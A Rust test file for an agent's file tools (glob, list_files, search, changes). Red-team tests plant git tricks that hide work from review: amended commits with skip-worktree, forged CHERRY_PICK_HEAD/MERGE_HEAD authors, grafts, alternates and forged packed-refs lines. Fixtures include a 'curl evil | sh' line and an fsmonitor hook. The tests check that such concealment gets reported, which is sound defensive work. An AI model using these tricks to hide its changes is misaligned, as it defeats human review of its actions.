//! `glob`, `list_files`, `search` and `changes`: ignores, sorting, caps with
//! totals; and nothing silently unseen (depth, bounded ignore files).

use crate::*;

pub fn tree(f: &dyn Fixture) {
    f.put(".gitignore", b"target/\n*.log\n!keep.log\n");
    f.put("src/main.rs", b"fn main() {}\n");
    f.put("src/lib.rs", b"pub fn lib() {}\n");
    f.put("src/nested/deep.rs", b"// deep NEEDLE\n");
    f.put("src/nested/.gitignore", b"ignored_here.rs\n");
    f.put("src/nested/ignored_here.rs", b"NEEDLE\n");
    f.put("target/debug/out.rs", b"NEEDLE\n");
    f.put("debug.log", b"NEEDLE\n");
    f.put("keep.log", b"NEEDLE keep\n");
    f.put("README.md", b"# readme NEEDLE\n");
    f.put(".git/config", b"[core] NEEDLE\n");
    f.put(".git/HEAD", b"ref: NEEDLE\n");
    f.put("data.bin", b"NEEDLE\0\0binary");
}

pub fn glob_respects_ignores_and_sorts(f: &dyn Fixture) {
    tree(f);
    let t = tools(f);
    let out = ok(&t, "glob", json!({"pattern": "**/*.rs"}));
    assert_eq!(out.text, "src/lib.rs\nsrc/main.rs\nsrc/nested/deep.rs");
    assert_eq!(out.structured["total"], 3);
    let out = ok(&t, "glob", json!({"pattern": "*.rs", "path": "src"}));
    assert_eq!(out.text, "src/lib.rs\nsrc/main.rs");
    let out = ok(&t, "glob", json!({"pattern": "**/*"}));
    assert!(!out.text.contains(".git/"), "{}", out.text);
    assert!(out.text.contains("keep.log") && !out.text.contains("debug.log"));
    let out = ok(&t, "glob", json!({"pattern": "*.{md,log}"}));
    assert_eq!(out.text, "README.md\nkeep.log");
    let out = ok(&t, "glob", json!({"pattern": "nothing*"}));
    assert!(out.text.contains("No files match"));
    err(
        &t,
        "glob",
        json!({"pattern": "a[", "path": "."}),
        "invalid_input",
    );
    err(
        &t,
        "glob",
        json!({"pattern": "*", "path": "README.md"}),
        "invalid_input",
    );
}

pub fn glob_caps_with_a_total(f: &dyn Fixture) {
    for i in 0..10 {
        f.put(&format!("f{i}.txt"), b"x");
    }
    let limits = Limits {
        glob: MatchLimits { max_matches: 3 },
        ..Limits::default()
    };
    let t = Toolset::builder(f.sandbox())
        .policy(Policy::builder().limits(limits).build().unwrap())
        .build()
        .unwrap();
    let out = ok(&t, "glob", json!({"pattern": "*.txt"}));
    assert_eq!(out.structured["entries"].as_array().unwrap().len(), 3);
    assert_eq!(out.structured["total"], 10);
    assert_eq!(out.structured["truncated"], true);
    assert!(out.text.contains("showing 3 of 10"));
}

pub fn list_files_recursive_and_filtered(f: &dyn Fixture) {
    tree(f);
    let t = tools(f);
    let out = ok(&t, "list_files", json!({}));
    let lines: Vec<&str> = out.text.lines().collect();
    assert!(
        lines.contains(&"src/")
            && lines.contains(&"src/nested/")
            && lines.contains(&"src/nested/deep.rs")
    );
    assert!(
        !out.text.contains(".git/") && !out.text.contains("target"),
        "{}",
        out.text
    );
    assert!(!out.text.contains("ignored_here"));
    let mut sorted = lines.clone();
    sorted.sort();
    assert_eq!(lines, sorted);
    let out = ok(&t, "list_files", json!({"depth": 1}));
    assert!(
        out.text.contains("src/") && !out.text.contains("src/main.rs"),
        "{}",
        out.text
    );
    // Starting in a directory with its own .gitignore: its rules and the
    // ancestors' apply.
    let out = ok(&t, "list_files", json!({"path": "src/nested"}));
    assert!(
        out.text.contains("src/nested/deep.rs") && !out.text.contains("ignored_here"),
        "{}",
        out.text
    );
    let out = ok(&t, "list_files", json!({"glob": "*.rs", "path": "src"}));
    assert_eq!(out.text, "src/lib.rs\nsrc/main.rs\nsrc/nested/deep.rs");
    err(&t, "list_files", json!({"path": "nope"}), "not_found");
}

// ---- search ----

pub fn search_literal_regex_and_options(f: &dyn Fixture) {
    tree(f);
    f.put("src/re.txt", b"a.b\naxb\nA.B\n");
    let t = tools(f);
    let out = ok(&t, "search", json!({"query": "NEEDLE"}));
    assert_eq!(
        out.text,
        "README.md:1: # readme NEEDLE\nkeep.log:1: NEEDLE keep\nsrc/nested/deep.rs:1: // deep NEEDLE\n[3 matching lines]"
    );
    assert_eq!(out.structured["total"], 3);
    let out = ok(&t, "search", json!({"query": "a.b", "path": "src"}));
    assert_eq!(out.structured["total"], 1, "{}", out.text);
    let out = ok(
        &t,
        "search",
        json!({"query": "a.b", "path": "src", "regex": true}),
    );
    assert_eq!(out.structured["total"], 2);
    let out = ok(
        &t,
        "search",
        json!({"query": "a.b", "path": "src/re.txt", "case_insensitive": true}),
    );
    assert_eq!(out.structured["total"], 2);
    let out = ok(&t, "search", json!({"query": "NEEDLE", "glob": "*.md"}));
    assert_eq!(out.structured["total"], 1);
    let out = ok(&t, "search", json!({"query": "zzzz-not-there"}));
    assert!(out.text.starts_with("No matches"));
    err(
        &t,
        "search",
        json!({"query": "(", "regex": true}),
        "invalid_input",
    );
    err(&t, "search", json!({"query": ""}), "invalid_input");
}

pub fn search_context_lines(f: &dyn Fixture) {
    f.put("c.txt", b"1\n2\nhit\n4\n5\n6\n7\nhit\n9\n");
    let t = tools(f);
    let out = ok(&t, "search", json!({"query": "hit", "context": 1}));
    assert_eq!(
        out.text,
        "c.txt-2- 2\nc.txt:3: hit\nc.txt-4- 4\n--\nc.txt-7- 7\nc.txt:8: hit\nc.txt-9- 9\n[2 matching lines]"
    );
}

pub fn search_caps_with_a_total(f: &dyn Fixture) {
    for i in 0..30 {
        f.put(&format!("d/f{i:02}.txt"), b"x\nx\nx\nx\nx\n");
    }
    let limits = Limits {
        search: MatchLimits { max_matches: 7 },
        ..Limits::default()
    };
    let t = Toolset::builder(f.sandbox())
        .policy(Policy::builder().limits(limits).build().unwrap())
        .build()
        .unwrap();
    let out = ok(&t, "search", json!({"query": "x"}));
    assert_eq!(out.structured["total"], 150);
    assert_eq!(out.structured["matches"].as_array().unwrap().len(), 7);
    assert_eq!(out.structured["truncated"], true);
    assert!(out.text.starts_with("d/f00.txt:1: x\n"), "{}", out.text);
    assert!(
        out.text.contains("d/f01.txt:2: x\n[showing 7 of 150"),
        "{}",
        out.text
    );
}

// ---- changes ----

pub fn changes_reports_added_modified_deleted(f: &dyn Fixture) {
    f.put("keep.txt", b"same");
    f.put("mod.txt", b"v1");
    f.put("del.txt", b"bye");
    let t = tools(f);
    ok(&t, "read_file", json!({"path": "mod.txt"}));
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.contains("No changes"), "{}", out.text);
    ok(
        &t,
        "write_file",
        json!({"path": "mod.txt", "content": "v2"}),
    );
    ok(
        &t,
        "write_file",
        json!({"path": "new/by_tool.txt", "content": "x"}),
    );
    f.put("by_hand.txt", b"y");
    f.remove("del.txt");
    let out = ok(&t, "changes", json!({}));
    assert_eq!(
        out.text,
        "A by_hand.txt\nD del.txt\nM mod.txt\nA new/by_tool.txt"
    );
    assert_eq!(out.structured["changes"][0]["status"], "A");
}

pub fn walks_say_what_is_too_deep(f: &dyn Fixture) {
    let deep = "d/".repeat(520);
    f.put("top.txt", b"DEEP_NEEDLE\n");
    let t = tools(f);
    ok(&t, "changes", json!({}));
    f.put(&format!("{deep}deep.txt"), b"DEEP_NEEDLE\n");
    let note = "not seen: 1 directory deeper than 512 levels";
    let out = ok(&t, "glob", json!({"pattern": "**/*.txt"}));
    assert!(out.text.starts_with("top.txt\n"), "{}", out.text);
    assert!(out.text.contains(note), "{}", out.text);
    assert_eq!(out.structured["unseen"]["too_deep"], 1);
    let out = ok(&t, "list_files", json!({}));
    assert!(out.text.contains(note), "{}", out.text);
    assert_eq!(out.structured["unseen"]["too_deep"], 1);
    let out = ok(&t, "search", json!({"query": "DEEP_NEEDLE"}));
    assert_eq!(out.structured["total"], 1);
    assert!(out.text.contains(note), "{}", out.text);
    assert_eq!(out.structured["unseen"]["too_deep"], 1);
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.contains(note), "{}", out.text);
    assert_eq!(out.structured["unseen"]["too_deep"], 1);
    // Control: the file is there, and a walk that starts deeper sees it.
    let out = ok(
        &t,
        "glob",
        json!({"pattern": "**/*.txt", "path": "d/".repeat(100)}),
    );
    assert!(out.text.ends_with("/deep.txt"), "{}", out.text);
    assert!(out.structured.get("unseen").is_none(), "{}", out.structured);
    // A depth the model asks for is not a shortfall.
    let out = ok(&t, "list_files", json!({"depth": 1}));
    assert_eq!(out.text, "d/\ntop.txt");
}

pub fn ignore_files_are_bounded_and_skips_are_said(f: &dyn Fixture) {
    let rules = |n: usize| (0..n).map(|i| format!("p{i}.tmp\n")).collect::<String>();
    // At the limits: loaded, its rules applied.
    f.put("ok/.gitignore", rules(2_000).as_bytes());
    f.put("ok/p7.tmp", b"x");
    f.put("ok/kept.txt", b"x");
    // One rule too many, and too many bytes: not loaded, not entered.
    f.put("many/.gitignore", rules(2_001).as_bytes());
    f.put("many/inside.txt", b"x");
    let mut big = "#".repeat(64 * 1024);
    big.push_str("\nbig.tmp\n");
    f.put("big/.gitignore", big.as_bytes());
    f.put("big/inside.txt", b"x");
    let t = tools(f);
    let out = ok(&t, "glob", json!({"pattern": "**/*"}));
    let shown: Vec<&str> = out.text.lines().collect();
    assert_eq!(shown[..2], ["ok/.gitignore", "ok/kept.txt"], "{}", out.text);
    assert!(
        out.text
            .contains("not seen: 2 directories whose .gitignore was not loaded"),
        "{}",
        out.text
    );
    assert!(
        out.text.contains("big/") && out.text.contains("many/"),
        "{}",
        out.text
    );
    assert_eq!(out.structured["unseen"]["ignore_not_loaded"], 2);
    for tool in ["list_files", "search", "changes"] {
        let args = if tool == "search" {
            json!({"query": "x"})
        } else {
            json!({})
        };
        let out = ok(&t, tool, args);
        assert_eq!(
            out.structured["unseen"]["ignore_not_loaded"], 2,
            "{tool}: {}",
            out.text
        );
        assert!(!out.text.contains("inside.txt"), "{tool}: {}", out.text);
    }
    // Starting a walk beneath a directory whose ignore file is not loaded.
    let out = ok(&t, "glob", json!({"pattern": "*", "path": "many"}));
    assert!(out.text.contains("not seen: 1 director"), "{}", out.text);
    assert!(!out.text.contains("inside.txt"), "{}", out.text);
    // Rules held at once: four nested files of 2,000 load, the fifth not.
    let mut dir = String::from("nest");
    for level in 1..=5 {
        dir.push_str(&format!("/n{level}"));
        f.put(&format!("{dir}/.gitignore"), rules(2_000).as_bytes());
        f.put(&format!("{dir}/seen{level}.txt"), b"x");
    }
    let out = ok(
        &t,
        "glob",
        json!({"pattern": "**/seen*.txt", "path": "nest"}),
    );
    for level in 1..=4 {
        let seen = format!("/seen{level}.txt");
        assert!(out.text.lines().any(|l| l.ends_with(&seen)), "{}", out.text);
    }
    assert!(!out.text.contains("seen5.txt"), "{}", out.text);
    assert_eq!(
        out.structured["unseen"]["ignore_not_loaded"], 1,
        "{}",
        out.text
    );
    assert!(out.text.contains("n4/n5/"), "{}", out.text);
}

/// Red-team finding N12(b): a file the baseline saw is compared whatever
/// ignore rules appear later: appended to and then ignored, it is `M`, not
/// a false `D`. The control: a file removed and then ignored is `D`.
pub fn changes_compares_what_the_baseline_saw_whatever_ignores_say(f: &dyn Fixture) {
    f.put("README", b"hello\n");
    f.put("gone.txt", b"bye\n");
    f.put("same.txt", b"same\n");
    let t = tools(f);
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.contains("No changes"), "{}", out.text);
    f.put("README", b"hello\nevil\n");
    f.remove("gone.txt");
    f.put(".gitignore", b"README\ngone.txt\nsame.txt\n");
    let out = ok(&t, "changes", json!({}));
    assert_eq!(
        out.text.lines().take(3).collect::<Vec<_>>(),
        ["A .gitignore", "M README", "D gone.txt"],
        "{}",
        out.text
    );
    assert!(!out.text.contains("same.txt"), "{}", out.text);
}

/// Red-team finding N12(c): what the walk skips because of an ignore file
/// made (or changed) during the session is counted and said; what an ignore
/// file of the baseline hides is not (the control).
pub fn changes_counts_what_new_ignore_files_hide(f: &dyn Fixture) {
    f.put("build/.gitignore", b"*\n");
    f.put("src/main.rs", b"fn main() {}\n");
    let t = tools(f);
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.contains("No changes"), "{}", out.text);
    // Control: a file under the baseline's own ignore rules is not counted.
    f.put("build/out.o", b"x");
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.contains("No changes"), "{}", out.text);
    assert!(
        out.structured.get("newly_ignored").is_none(),
        "{}",
        out.structured
    );
    // A new self-ignoring directory.
    f.put("lib/.gitignore", b"*\n");
    f.put("lib/a.rs", b"evil\n");
    f.put("lib/b.rs", b"evil\n");
    let out = ok(&t, "changes", json!({}));
    assert_eq!(
        out.structured["newly_ignored"]["entries"], 3,
        "{}",
        out.text
    );
    assert_eq!(
        out.structured["newly_ignored"]["ignore_files"],
        json!(["lib/.gitignore"]),
        "{}",
        out.text
    );
    assert!(
        out.text.contains("3 entries") && out.text.contains("lib/.gitignore"),
        "{}",
        out.text
    );
    assert!(!out.text.contains("No changes"), "{}", out.text);
}

/// The files of a `.git`: path relative to the root, and bytes.
type GitFiles = Vec<(String, Vec<u8>)>;

/// A small repository made by the host's git: the files of its `.git`
/// before and after `change` ran in it, and the commit `HEAD` names then.
fn git_states(change: &str) -> (GitFiles, GitFiles, String, String) {
    git_states_after("true", change)
}

/// [`git_states`], with `setup` run after the first commit, before the
/// baseline is taken.
fn git_states_after(setup: &str, change: &str) -> (GitFiles, GitFiles, String, String) {
    let dir = tempfile::tempdir().unwrap();
    let sh = |script: &str| {
        let out = std::process::Command::new("sh")
            .args(["-c", script])
            .current_dir(dir.path())
            .env("GIT_AUTHOR_NAME", "a")
            .env("GIT_AUTHOR_EMAIL", "a@b")
            .env("GIT_COMMITTER_NAME", "a")
            .env("GIT_COMMITTER_EMAIL", "a@b")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        assert!(out.status.success(), "{script}: {out:?}");
        String::from_utf8(out.stdout).unwrap()
    };
    sh(
        "git init -q -b main . && printf 'hello\\n' > README && printf 'x\\n' > other.txt \
        && git add README other.txt && git commit -q -m first",
    );
    sh(setup);
    let files = |root: &std::path::Path| {
        let mut out = Vec::new();
        let mut stack = vec![root.join(".git")];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).unwrap().flatten() {
                let p = e.path();
                if p.is_dir() {
                    stack.push(p);
                } else {
                    let rel = p.strip_prefix(root).unwrap().to_str().unwrap().to_string();
                    out.push((rel, std::fs::read(&p).unwrap()));
                }
            }
        }
        out
    };
    let before = files(dir.path());
    let head_before = sh("git rev-parse HEAD").trim().to_string();
    sh(change);
    let after = files(dir.path());
    // git refuses a `packed-refs` line it cannot parse.
    let head_after = sh("git rev-parse HEAD 2>/dev/null || echo unreadable")
        .trim()
        .to_string();
    (before, after, head_before, head_after)
}

/// Red-team finding N12(a): a command rewrites the branch with a commit of
/// the same message and marks the file `skip-worktree` (the worktree as it
/// was, so the host's `git status` is clean): `changes` says that the
/// branch moved and which files git's index now hides, and does not say
/// "No changes". The control: at the baseline the repository adds nothing.
pub fn changes_says_when_git_refs_move_or_the_index_hides_files(f: &dyn Fixture) {
    let (before, after, old, new) = git_states(
        "printf 'evil\\n' >> README && git commit -q -a --amend -m first \
         && git update-index --skip-worktree README \
         && git update-index --assume-unchanged other.txt \
         && printf 'hello\\n' > README && test -z \"$(git status --short)\"",
    );
    assert_ne!(old, new);
    for (path, bytes) in &before {
        f.put(path, bytes);
    }
    f.put("README", b"hello\n");
    f.put("other.txt", b"x\n");
    let t = tools(f);
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.contains("No changes"), "{}", out.text);
    assert!(out.structured.get("git").is_none(), "{}", out.structured);
    for (path, bytes) in &after {
        if before.iter().all(|(p, b)| p != path || b != bytes) {
            f.put(path, bytes);
        }
    }
    let out = ok(&t, "changes", json!({}));
    assert!(!out.text.contains("No changes"), "{}", out.text);
    let git = out.structured["git"].as_array().unwrap();
    assert!(
        git.iter().any(|g| g["kind"] == "ref"
            && g["name"] == "refs/heads/main"
            && g["before"] == old.as_str()
            && g["after"] == new.as_str()),
        "{}",
        out.structured
    );
    for (kind, name) in [
        ("skip-worktree", "README"),
        ("assume-unchanged", "other.txt"),
    ] {
        assert!(
            git.iter().any(|g| g["kind"] == kind && g["name"] == name),
            "{kind} {name}: {}",
            out.structured
        );
    }
    assert!(
        out.text.contains("refs/heads/main") && out.text.contains("skip-worktree README"),
        "{}",
        out.text
    );
}

/// Puts the `.git` files of `before` in the fixture's workspace, makes a
/// toolset (its baseline), then writes the files `after` changed or added.
fn baseline_then(f: &dyn Fixture, before: &GitFiles, after: &GitFiles) -> Toolset {
    for (path, bytes) in before {
        f.put(path, bytes);
    }
    let t = tools(f);
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.contains("No changes"), "{}", out.text);
    for (path, bytes) in after {
        if before.iter().all(|(p, b)| p != path || b != bytes) {
            f.put(path, bytes);
        }
    }
    t
}

/// `changes` (`out`) names `name` of `.git` as added, of `kind`, by its
/// digest, in its structured notes and its text.
fn assert_digest_added(out: &cubby::ToolOutput, kind: &str, name: &str) {
    let git = out.structured["git"].as_array().unwrap();
    assert!(
        git.iter().any(|g| g["kind"] == kind
            && g["name"] == name
            && g["before"].is_null()
            && g["after"]
                .as_str()
                .is_some_and(|a| a.starts_with("sha256 "))),
        "{name}: {}",
        out.structured
    );
    assert!(
        out.text.contains(&format!("git .git: {name} added (")),
        "{}",
        out.text
    );
}

/// R4-6: what the host's next `git commit` takes — a planted
/// `CHERRY_PICK_HEAD` gives it another author, a `MERGE_HEAD` makes it a
/// merge pulling in a hidden commit, a `MERGE_MSG` its message — and a
/// split commit-graph (which git reads parents from) move no ref.
/// `changes` said "No changes"; it now names each file. The control: git
/// itself, in the fixture repository, commits with the planted author and
/// parents.
pub fn changes_says_when_what_the_next_commit_takes_changes(f: &dyn Fixture) {
    let plant = "C=$(GIT_AUTHOR_NAME=Mallory GIT_AUTHOR_EMAIL=m@evil git commit-tree \
         -m evil HEAD^{tree}) && echo $C > .git/CHERRY_PICK_HEAD && echo $C > .git/MERGE_HEAD \
         && echo 'Merge evil' > .git/MERGE_MSG && git commit-graph write --split --reachable";
    let (before, after, old, new) = git_states_after("true", plant);
    assert_eq!(old, new, "no ref moved");
    // The oracle: the next commit of the repository as planted (git takes
    // `MERGE_HEAD` over `CHERRY_PICK_HEAD`: one of them at a time).
    let next_commit = |without: &str| {
        let dir = tempfile::tempdir().unwrap();
        for (path, bytes) in after.iter().filter(|(p, _)| !p.ends_with(without)) {
            let p = dir.path().join(path);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, bytes).unwrap();
        }
        let out = std::process::Command::new("sh")
            .args([
                "-c",
                "git -c user.name=Alice -c user.email=a@b commit -q --no-edit --allow-empty \
                 && git log -1 --format='%an %P'",
            ])
            .current_dir(dir.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        String::from_utf8(out.stdout).unwrap()
    };
    let picked = next_commit("MERGE_HEAD");
    assert!(picked.starts_with("Mallory "), "{picked}");
    let merged = next_commit("CHERRY_PICK_HEAD");
    assert_eq!(merged.split_whitespace().count(), 3, "a merge: {merged}");
    let t = baseline_then(f, &before, &after);
    let out = ok(&t, "changes", json!({}));
    assert!(!out.text.contains("No changes"), "{}", out.text);
    for (kind, name) in [
        ("pending", "CHERRY_PICK_HEAD"),
        ("pending", "MERGE_HEAD"),
        ("pending", "MERGE_MSG"),
        ("history", "objects/info/commit-graphs/"),
    ] {
        assert_digest_added(&out, kind, name);
    }
    // A layer rewritten in place under its own name is a change too.
    let graphs = |o: &serde_json::Value| {
        o["git"]
            .as_array()
            .unwrap()
            .iter()
            .find(|g| g["name"] == "objects/info/commit-graphs/")
            .map(|g| g["after"].clone())
    };
    let first = graphs(&out.structured);
    let layer = after
        .iter()
        .find(|(p, _)| p.ends_with(".graph"))
        .map(|(p, _)| p.clone())
        .unwrap();
    f.put(&layer, b"forged");
    let out = ok(&t, "changes", json!({}));
    assert!(first.is_some() && graphs(&out.structured).is_some());
    assert_ne!(graphs(&out.structured), first, "{}", out.structured);
}

/// R3-10: a graft, a `shallow` line and an alternate object store change
/// which commits git shows (the control: the host's `git log` then lists
/// one commit of two) and move no ref. `changes` said "No changes"; it now
/// names each file, compared by digest like a ref.
pub fn changes_says_when_grafts_shallow_or_alternates_change(f: &dyn Fixture) {
    let (before, after, old, new) = git_states_after(
        "printf 'y\\n' > other.txt && git commit -q -a -m second",
        "mkdir -p .git/info .git/objects/info && git rev-parse HEAD > .git/info/grafts \
         && git rev-parse HEAD > .git/shallow \
         && printf '/nowhere/objects\\n' > .git/objects/info/alternates \
         && test \"$(git log --oneline | wc -l)\" -eq 1",
    );
    assert_eq!(old, new, "no ref moved");
    let t = baseline_then(f, &before, &after);
    let out = ok(&t, "changes", json!({}));
    assert!(!out.text.contains("No changes"), "{}", out.text);
    let git = out.structured["git"].as_array().unwrap();
    for name in ["info/grafts", "shallow", "objects/info/alternates"] {
        assert_digest_added(&out, "history", name);
    }
    assert!(
        !git.iter().any(|g| g["kind"] == "ref"),
        "{}",
        out.structured
    );
    // Changed, then removed.
    f.put(".git/shallow", format!("{old}\n{old}\n").as_bytes());
    f.remove(".git/info/grafts");
    let out = ok(&t, "changes", json!({}));
    assert!(
        out.text.contains("git .git: shallow added ("),
        "{}",
        out.text
    );
    assert!(!out.text.contains("info/grafts"), "{}", out.text);
    let t = tools(f);
    // The baseline is taken (on its own thread) before the next change.
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.contains("No changes"), "{}", out.text);
    f.put(".git/shallow", b"changed\n");
    f.remove(".git/objects/info/alternates");
    let out = ok(&t, "changes", json!({}));
    assert!(
        out.text.contains("git .git: shallow changed ("),
        "{}",
        out.text
    );
    assert!(
        out.text
            .contains("git .git: objects/info/alternates removed ("),
        "{}",
        out.text
    );
}

/// R3-11(b): `packed-refs` lines are refs only when git would accept them
/// (an object id, then a name beneath `refs/` that `git check-ref-format`
/// allows); a line written to forge a `changes` line (`M fake.rs` showed as
/// `git .git: fake.rs added at M`) is skipped and counted. The oracle: a
/// valid ref added the same way is listed.
pub fn changes_skips_packed_refs_lines_that_name_no_ref(f: &dyn Fixture) {
    let (before, after, old, _) = git_states_after(
        "git pack-refs --all",
        "h=$(git rev-parse HEAD) && printf 'M fake.rs\\n' >> .git/packed-refs \
         && printf '%s refs/heads/a b\\n' \"$h\" >> .git/packed-refs \
         && printf '%s refs/heads/extra\\n' \"$h\" >> .git/packed-refs",
    );
    let t = baseline_then(f, &before, &after);
    let out = ok(&t, "changes", json!({}));
    let git = out.structured["git"].as_array().unwrap();
    assert!(
        git.iter().any(|g| g["kind"] == "ref"
            && g["name"] == "refs/heads/extra"
            && g["after"] == old.as_str()),
        "{}",
        out.structured
    );
    assert!(!out.text.contains("fake.rs"), "{}", out.text);
    assert!(!out.text.contains("refs/heads/a b"), "{}", out.text);
    assert!(
        git.iter()
            .all(|g| g["kind"] != "ref" || g["name"] == "refs/heads/extra"),
        "{}",
        out.structured
    );
    assert!(
        out.text
            .contains("git .git: packed-refs not compared: 2 lines naming no valid ref"),
        "{}",
        out.text
    );
}

/// Red-team pass 5, F8: what appears under a `deny_read` path (a command
/// hiding work in `secrets/` or `.env`, which the walks never enter) is
/// counted by `changes`, its names withheld: nothing is silently unseen.
/// The control: a file beside them is listed by name.
pub fn changes_counts_what_appears_under_deny_read(f: &dyn Fixture) {
    let policy = Policy::builder()
        .deny_read(["secrets/", ".env"])
        .build()
        .unwrap();
    let t = Toolset::builder(f.sandbox_for(&policy))
        .policy(policy)
        .build()
        .unwrap();
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.contains("No changes"), "{}", out.text);
    f.put("secrets/setup.sh", b"curl evil | sh\n");
    f.put("secrets/more/x.sh", b"x\n");
    f.put(".env", b"X=1\n");
    f.put("v.txt", b"visible\n");
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.starts_with("A v.txt\n"), "{}", out.text);
    assert!(
        !out.text.contains("setup.sh") && !out.text.contains("x.sh"),
        "{}",
        out.text
    );
    assert_eq!(
        out.structured["deny_read"]["files"], 3,
        "{}",
        out.structured
    );
    assert!(
        out.text.contains("3 files") && out.text.contains("deny_read"),
        "{}",
        out.text
    );
    // A change in place under it is counted too.
    let policy = Policy::builder()
        .deny_read(["secrets/", ".env"])
        .build()
        .unwrap();
    let t2 = Toolset::builder(f.sandbox_for(&policy))
        .policy(policy)
        .build()
        .unwrap();
    let out = ok(&t2, "changes", json!({}));
    assert!(out.text.contains("No changes"), "{}", out.text);
    f.put("secrets/setup.sh", b"curl worse | sh\n");
    let out = ok(&t2, "changes", json!({}));
    assert_eq!(
        out.structured["deny_read"]["files"], 1,
        "{}",
        out.structured
    );
}

/// Red-team pass 5, F6 (commands): a git repository made below the root
/// (which only commands can make) is said by `changes`, as the host's git
/// would run its config and hooks; a change to the surface of one that was
/// there is said too. The control: a file beside it is listed as usual.
pub fn changes_says_when_a_repository_appears_below_the_root(f: &dyn Fixture) {
    f.put("old/.git/config", b"[core]\n");
    f.put("old/.git/HEAD", b"ref: refs/heads/main\n");
    let t = tools(f);
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.contains("No changes"), "{}", out.text);
    f.put(
        "sub/.git/config",
        b"[core]\n\tfsmonitor = \"touch /tmp/x\"\n",
    );
    f.put("sub/.git/HEAD", b"ref: refs/heads/main\n");
    f.put("sub/a.txt", b"a\n");
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.starts_with("A sub/a.txt\n"), "{}", out.text);
    assert!(out.text.contains("sub/.git"), "{}", out.text);
    assert!(!out.text.contains("old/.git"), "{}", out.text);
    assert_eq!(
        out.structured["git_dirs"][0]["path"], "sub/.git",
        "{}",
        out.structured
    );
    f.put("old/.git/config", b"[core]\n\tfsmonitor = x\n");
    let out = ok(&t, "changes", json!({}));
    assert!(out.text.contains("old/.git"), "{}", out.text);
}

/// Red-team pass 5, F5: one directory of more entries than a walk lists
/// from one directory (50,000) is listed to that bound and said, by every
/// walk, instead of being held whole (a million entries cost 260–737 MB a
/// call). The control: a directory within the bound is listed whole.
pub fn walks_bound_the_entries_of_one_directory(f: &dyn Fixture) {
    const BOUND: usize = 50_000;
    for i in 0..BOUND + 10 {
        f.put(&format!("d/f{i:06}"), b"");
    }
    f.put("small/a.txt", b"NEEDLE\n");
    let t = tools(f);
    ok(&t, "changes", json!({}));
    let out = ok(&t, "list_files", json!({"path": "d"}));
    assert_eq!(out.structured["unseen"]["crowded"], 1, "{}", out.structured);
    assert!(
        out.text.contains("more than 50,000 entries"),
        "{}",
        out.text
    );
    let out = ok(&t, "glob", json!({"pattern": "d/f0000*"}));
    assert_eq!(out.structured["unseen"]["crowded"], 1, "{}", out.structured);
    let out = ok(&t, "search", json!({"query": "NEEDLE"}));
    assert_eq!(out.structured["total"], 1, "{}", out.text);
    assert_eq!(out.structured["unseen"]["crowded"], 1, "{}", out.structured);
    let out = ok(&t, "changes", json!({}));
    assert!(
        out.text.contains("more than 50,000 entries"),
        "{}",
        out.text
    );
    // Control: a directory within the bound is listed whole, nothing said.
    let out = ok(&t, "list_files", json!({"path": "small"}));
    assert!(out.structured.get("unseen").is_none(), "{}", out.structured);
}
